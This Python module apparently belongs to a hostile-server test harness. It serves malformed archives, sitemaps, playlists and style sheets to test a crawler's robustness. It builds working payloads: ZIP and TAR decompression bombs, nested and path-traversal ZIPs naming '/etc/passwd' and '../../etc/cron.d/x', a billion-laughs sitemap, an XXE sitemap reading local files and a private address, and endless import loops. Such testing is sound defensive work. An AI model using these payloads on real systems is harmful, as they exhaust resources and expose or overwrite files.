"""Acts of documents that are no HTML: archives, sitemaps, style sheets and playlists."""

from __future__ import annotations

import gzip
import io
import zipfile
import zlib
from functools import cache

from tar_bytes import END, header, member, pax

from hostile.act import PAGE, PAYLOAD, Exchange, act, fixed, response
from hostile.encodings import BOMB_CHECKSUM, BOMB_SIZE, make_bomb

XML = "Content-Type: application/xml"
SITEMAP = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'


def zip_of(*members: tuple[str, bytes], stored: bool = True) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, body in members:
            archive.writestr(zipfile.ZipInfo(name), body)
    return file.getvalue()


@cache
def zip_bomb_body() -> bytes:
    """One member, deflated, that holds 1 GiB of zeros; local header only, which a streaming reader sees first."""
    data = make_bomb()[10:-8]
    sizes = BOMB_CHECKSUM.to_bytes(4, "little") + len(data).to_bytes(4, "little") + BOMB_SIZE.to_bytes(4, "little")
    return b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0" + sizes + b"\x01\0\0\0a" + data


@cache
def zip_nested_body() -> bytes:
    body = zip_of(("payload.bin", PAYLOAD))
    for level in range(30):
        body = zip_of((f"{level}.zip", body))
    return body


@cache
def zip_crowd_body() -> bytes:
    return zip_of(*((f"{number:x}", b"%x" % number) for number in range(30_000)))


@cache
def zip_cut_body() -> bytes:
    return zip_of(("a.bin", PAYLOAD))[:50_000]


@cache
def zip_lie_body() -> bytes:
    """The first member's checksum is wrong."""
    whole = bytearray(zip_of(("a.bin", PAYLOAD)))
    whole[14:18] = (zlib.crc32(PAYLOAD) ^ 1).to_bytes(4, "little")
    return bytes(whole)


@cache
def zip_paths_body() -> bytes:
    return zip_of(
        ("../../etc/cron.d/x", b"a" * 100), ("/etc/passwd", b"b" * 100), ("a\0b", b"c" * 100), ("n" * 60_000, b"d")
    )


def _zip(body: bytes) -> bytes:
    return response(body, "Content-Type: application/zip")


@fixed()
def zip_bomb() -> bytes:
    """A ZIP member of 1 GiB of zeros in 1 MiB."""
    return _zip(zip_bomb_body())


@fixed()
def zip_nested() -> bytes:
    """30 ZIP archives in each other."""
    return _zip(zip_nested_body())


@fixed()
def zip_crowd() -> bytes:
    """A ZIP archive of 30,000 small files."""
    return _zip(zip_crowd_body())


@fixed()
def zip_cut() -> bytes:
    """Half a ZIP archive, of which Content-Length is right."""
    return _zip(zip_cut_body())


@fixed()
def zip_lies() -> bytes:
    """A ZIP member whose checksum is wrong."""
    return _zip(zip_lie_body())


@fixed()
def zip_paths() -> bytes:
    """ZIP members whose names lead out of a folder, or are 60 kB long."""
    return _zip(zip_paths_body())


@cache
def tar_bomb_body() -> bytes:
    """A TAR archive in gzip: a member of 1 GiB of zeros, packed from 1 MiB of them."""
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    start = packer.compress(header(b"a", BOMB_SIZE)) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08" + bytes(7) + start + make_bomb()[10:-8] + bytes(8)


@cache
def tar_holes_body() -> bytes:
    """A sparse file of an exbibyte: eight bytes and a hole."""
    records = [(b"GNU.sparse.size", b"%d" % 2**60), (b"GNU.sparse.map", b"0,8")]
    return pax(records) + member(b"s", b"12345678") + member(b"payload.bin", PAYLOAD) + END


@cache
def tar_extensions_body() -> bytes:
    """Extensions of members that never come."""
    return member(b"payload.bin", PAYLOAD) + pax([(b"path", b"p" * 400)]) * 20_000


@cache
def rar_behind_picture_body() -> bytes:
    return b"\xff\xd8\xff\xe0" + PAYLOAD + b"Rar!\x1a\x07\x01\x00" + PAYLOAD + b"\x1d\x77\x56\x51\x03\x05\x04\x00"


def _file(body: bytes) -> bytes:
    return response(body, "Content-Type: application/octet-stream")


@fixed()
def tar_bomb() -> bytes:
    """A TAR archive in gzip whose one member is 1 GiB of zeros."""
    return _file(tar_bomb_body())


@fixed()
def tar_holes() -> bytes:
    """A TAR archive with a sparse file of an exbibyte, which is a hole."""
    return _file(tar_holes_body())


@fixed()
def tar_extensions() -> bytes:
    """A TAR archive that ends with 20,000 pax headers, in gzip."""
    return _file(gzip.compress(tar_extensions_body(), mtime=0))


@fixed()
def gzip_streams() -> bytes:
    """A file of 100,000 empty gzip streams."""
    return _file(gzip.compress(b"", mtime=0) * 100_000)


@fixed()
def zip_bomb_behind_picture() -> bytes:
    """A picture, and behind it a ZIP member of 1 GiB of zeros."""
    return _file(b"\xff\xd8\xff\xe0" + PAYLOAD + zip_bomb_body())


@fixed()
def zip_decoys() -> bytes:
    """A file of 500,000 beginnings of headers of ZIP members that are none."""
    return _file(b"\xff\xd8\xff\xe0" + b"PK\x03\x04" * 500_000)


@fixed()
def rar_behind_picture() -> bytes:
    """A picture, and behind it a RAR archive."""
    return _file(rar_behind_picture_body())


@fixed(path=PAGE)
def sitemap_entities() -> bytes:
    """A sitemap whose XML entities double ten times over (billion laughs)."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    url = "<url><loc>/&l9;</loc></url>"
    body = f'<?xml version="1.0"?><!DOCTYPE u [<!ENTITY l0 "ha">{laughs}]><urlset {SITEMAP}>{url}</urlset>'
    return response(body.encode(), XML)


@fixed(path=PAGE)
def sitemap_external_entity() -> bytes:
    """A sitemap that includes a file of the disk and a URL of a private address."""
    entities = '<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://10.0.0.1/">'
    body = f'<?xml version="1.0"?><!DOCTYPE u [{entities}]><urlset {SITEMAP}><url><loc>/&a;&b;</loc></url></urlset>'
    return response(body.encode(), XML)


@fixed(path=PAGE)
def sitemap_flood() -> bytes:
    """A sitemap of 5 MB of URLs of other hosts."""
    urls = "".join(f"<url><loc>http://h{number}.example/</loc></url>" for number in range(110_000))
    return response(f'<?xml version="1.0"?><urlset {SITEMAP}>{urls}</urlset>'.encode(), XML)


@act(path=PAGE, owns=("/sitemaps/",))
async def sitemap_indexes(exchange: Exchange) -> None:
    """Sitemap indexes that lead to sitemap indexes, without end."""
    number = int(exchange.path.removeprefix("/sitemaps/")) if exchange.path.startswith("/sitemaps/") else 0
    entry = f"<sitemap><loc>http://{exchange.host}/sitemaps/{number + 1}</loc></sitemap>"
    body = f'<?xml version="1.0"?><sitemapindex {SITEMAP}>{entry}</sitemapindex>'
    await exchange.send(response(body.encode(), XML))


@act(path=PAGE, owns=("/lists/",))
async def playlist_loop(exchange: Exchange) -> None:
    """HLS playlists that lead to playlists, without end."""
    number = int(exchange.path.removeprefix("/lists/")) if exchange.path.startswith("/lists/") else 0
    body = f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n/lists/{number + 1}\n"
    await exchange.send(response(body.encode(), "Content-Type: application/vnd.apple.mpegurl"))


@act(path=PAGE, owns=("/styles/",))
async def style_imports(exchange: Exchange) -> None:
    """Style sheets that import style sheets, without end."""
    number = int(exchange.path.removeprefix("/styles/")) if exchange.path.startswith("/styles/") else 0
    await exchange.send(response(f'@import "/styles/{number + 1}";'.encode(), "Content-Type: text/css"))
